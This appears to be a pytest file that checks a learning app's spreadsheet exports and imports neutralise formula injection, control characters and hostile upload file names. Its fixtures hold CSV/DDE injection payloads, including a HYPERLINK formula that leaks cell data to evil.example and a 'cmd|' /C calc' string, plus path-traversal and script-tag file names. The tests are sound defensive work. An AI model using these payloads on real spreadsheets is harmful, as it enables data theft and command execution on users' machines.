"""Exports are safe to open: names can't become formulas, control characters
never break an export, and imports refuse control characters at the door."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from learning_app.errors import SheetRejected
from learning_app.extensions import db
from learning_app.imports import read_table
from learning_app.models import Member
from learning_app.reports.export import csv_text, xlsx_bytes
from learning_app.spreadsheet import display_name, has_cell_control, safe_text
from tests.app.conftest import Tree
from tests.app.report_helpers import AFTER

HOSTILE = {
    "QC-LQ": '=HYPERLINK("http://evil.example/?x="&A1,"点我查看")',
    "QC-SQ": "@SUM(1+1)*cmd|' /C calc'!A0",
    "QC-D-RS": "+1+1",
    "QC-LQ-01": "-2+3",
    "QC-LQ-02": "\t=1+1",
}


@pytest.fixture
def hostile(tree: Tree, county: dict[str, Member]) -> Tree:
    for code, name in HOSTILE.items():
        tree[code].name = name
    tree["QC-SQ-01"].name = "石桥\x07村\x1b党支部"  # as an old row or a direct write may hold
    db.session.commit()
    return tree


def test_no_exported_xlsx_cell_is_a_formula(hostile: Tree) -> None:
    data = xlsx_bytes(db.session, hostile["QC"], "2026-H2", today=AFTER)  # no 500
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for name in HOSTILE.values():
        assert "'" + name in texts or any(t.startswith("'") and name in t for t in texts), name
    assert "石桥村党支部" in texts  # the control characters dropped, the name kept
    assert not any(t.startswith(("=", "+", "-", "@", "\t")) for t in texts)


def test_no_exported_csv_field_starts_a_formula(hostile: Tree) -> None:
    rows = list(csv.reader(io.StringIO(csv_text(db.session, hostile["QC"], "2026-H2",
                                                today=AFTER))))
    fields = [field for row in rows for field in row]
    assert "'" + HOSTILE["QC-LQ"] in fields and "'" + HOSTILE["QC-SQ"] in fields
    assert not any(f.startswith(("=", "+", "@", "\t")) for f in fields)
    assert not any(f.startswith("-") and not f[1:].replace(".", "").isdigit() for f in fields)


def test_numbers_stay_numbers() -> None:
    assert safe_text("-1.00") == "-1.00" and safe_text("+5") == "+5" and safe_text("40%") == "40%"
    assert safe_text("-1+cmd") == "'-1+cmd"
    assert safe_text("青川\x00县") == "青川县"


def test_an_import_with_a_control_character_is_refused_with_row_and_column() -> None:
    data = "组织编码,组织名称\nQC-X,正常\nQC-Y,坏\x07名字\n".encode()
    with pytest.raises(SheetRejected) as caught:
        read_table(data, "orgs.csv")
    assert [str(p) for p in caught.value.problems] == [
        "第3行 组织名称：含有看不见的控制字符，请删去后重新导入"]


def test_excels_escaped_control_characters_count_as_control_characters() -> None:
    assert has_cell_control("石桥_x0007_村") and has_cell_control("a\x1bb")
    assert not has_cell_control("_x4E2D_文") and not has_cell_control("QC_x_01")


@pytest.mark.parametrize(("name", "shown"), [
    ("../../etc/passwd", "passwd"),
    ("C:\\Users\\张\\党员名册.xlsx", "党员名册.xlsx"),
    ("<script>alert(1)<\\script>.csv", "script_.csv"),
    ("名册\x00\x1b[2J\r\n.csv", "名册__[2J__.csv"),
    ("\u202egpj.xlsx", "_gpj.xlsx"),
    ("..", "（未命名文件）"),
    ("长" * 200 + ".csv", "长" * 79 + "…"),
])
def test_uploaded_file_names_are_shown_without_paths_controls_or_markup(
        name: str, shown: str) -> None:
    assert display_name(name) == shown
